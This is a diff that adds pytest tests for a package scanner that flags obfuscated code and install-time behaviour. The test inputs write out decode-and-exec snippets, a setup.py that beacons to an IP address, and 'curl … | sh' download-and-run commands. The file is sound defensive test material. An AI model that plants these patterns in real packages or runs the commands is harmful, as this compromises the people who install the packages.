@@ -1,0 +1,104 @@
+"""Obfuscation signs and install-time code, read as text or with ast (never run)."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from mcpvet.behaviour.installcode import is_benign_build, script_behaviour, setup_py_behaviour
+from mcpvet.behaviour.obfuscation import scan, severity
+from mcpvet.model import Kind, Severity
+from tests.conftest import SHARED
+
+CASES = SHARED / "eval" / "cases"
+
+
+def test_string_table_blob() -> None:
+    signs = scan((CASES / "js-postinstall-obfuscated" / "dist" / "vendor" / "cc.min.js").read_text("utf-8"))
+    assert [s.technique for s in signs] == ["string-table"]
+    assert "push(shift())" in signs[0].detail
+    assert severity(signs) is Severity.MEDIUM
+
+
+def test_packer_is_high() -> None:
+    signs = scan("eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))")
+    assert signs[0].technique == "packer" and severity(signs) is Severity.HIGH
+
+
+@pytest.mark.parametrize("code", [
+    "exec(base64.b64decode('cHJpbnQoMSk='))",
+    "exec(zlib.decompress(base64.b64decode(BLOB)))",
+    "_ = __import__('marshal')",
+    "eval(atob('YWxlcnQoMSk='))",
+    "new Function(Buffer.from(s, 'base64').toString())()",
+])
+def test_decode_and_run(code: str) -> None:
+    signs = scan(code)
+    assert signs and severity(signs) is Severity.HIGH
+
+
+def test_encoded_blob_next_to_exec() -> None:
+    blob = base64.b64encode(b"import os; os.system('id')" * 12).decode()
+    assert scan(f"PAYLOAD = '{blob}'\nexec(compile(decode(PAYLOAD), 'x', 'exec'))")
+
+
+@pytest.mark.parametrize("code", [
+    "function add(a,b){return a+b}module.exports={add:add};",
+    "const s = 'caf\\u00e9'; const t = '\\x41';",
+    "IMG = 'data:image/png;base64," + "A" * 400 + "'\nprint(eval('1+1'))",
+    "def f():\n    return {'id': 1}\n",
+])
+def test_benign_code(code: str) -> None:
+    assert scan(code) == []
+
+
+def test_reference_server_sources_are_not_obfuscated() -> None:
+    # our own sources and the eval cases other than the vendored blob are ordinary code
+    for path in sorted(CASES.glob("*/**/*.[jt]s")) + sorted(CASES.glob("*/**/*.py")):
+        if path.name != "cc.min.js":
+            assert scan(path.read_text("utf-8")) == [], path
+
+
+def test_setup_py_cmdclass_download_and_run() -> None:
+    beh = setup_py_behaviour((CASES / "py-setup-loop-registration" / "setup.py").read_text("utf-8"))
+    assert {Kind.NETWORK, Kind.PROCESS, Kind.FS_WRITE} <= beh.kinds
+    assert beh.cmdclass == ("install=PostInstallCommand",)
+    assert beh.addresses == ("http://198.51.100.77/tk/update.sh",)
+    assert beh.does_more_than_setup
+
+
+def test_plain_setup_py() -> None:
+    src = ("from setuptools import setup, find_packages\n"
+           "exec(open('pkg/version.py').read())\n"
+           "setup(name='x', packages=find_packages(), long_description=open('README.md').read())\n")
+    beh = setup_py_behaviour(src)
+    assert not beh.does_more_than_setup
+
+
+def test_setup_py_module_level_network_via_function() -> None:
+    src = ("import urllib.request\nfrom setuptools import setup\n"
+           "def beacon():\n    urllib.request.urlopen('http://203.0.113.9/x')\n"
+           "beacon()\nsetup(name='x')\n")
+    assert Kind.NETWORK in setup_py_behaviour(src).kinds
+
+
+def test_setup_py_that_does_not_parse() -> None:
+    with pytest.raises(SyntaxError):
+        setup_py_behaviour("print 'python 2'\n")
+
+
+def test_script_behaviour() -> None:
+    beh = script_behaviour((CASES / "js-postinstall-obfuscated" / "scripts" / "setup.js").read_text("utf-8"))
+    assert {Kind.NETWORK, Kind.ENV} <= beh.kinds and beh.sends
+    assert "198.51.100.14" in beh.addresses
+    assert script_behaviour("curl -s https://x.example/i.sh | sh").sends
+    assert not script_behaviour("console.log('thanks for installing')").kinds
+
+
+@pytest.mark.parametrize(("command", "benign"), [
+    ("tsc", True), ("npm run build", True), ("husky install", True), ("node-gyp rebuild", True),
+    ("tsc && shx chmod +x dist/*.js", True), ("node scripts/setup.js", False), ("curl x | sh", False),
+])
+def test_benign_build_commands(command: str, benign: bool) -> None:
+    assert is_benign_build(command) is benign
